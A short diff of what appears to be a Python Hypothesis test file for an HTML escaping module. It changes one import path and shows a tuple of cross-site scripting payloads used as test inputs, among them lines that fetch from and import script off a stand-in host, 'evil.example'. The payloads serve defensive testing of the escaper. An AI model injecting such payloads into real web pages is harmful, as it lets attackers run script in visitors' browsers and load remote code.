@@ -6,7 +6,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from streametrics.page_text import ATTRIBUTES, ELEMENTS, Element, Page, escaped
+from streametrics.api.html import ATTRIBUTES, ELEMENTS, Element, Page, escaped
 
 #: What could follow `=` or run by itself. The word in the middle marks it.
 _CODE = ("alert(1)", "alert`1`", "top['al'+'ert'](1)", "fetch('//evil.example')", "import('//evil.example/x')")
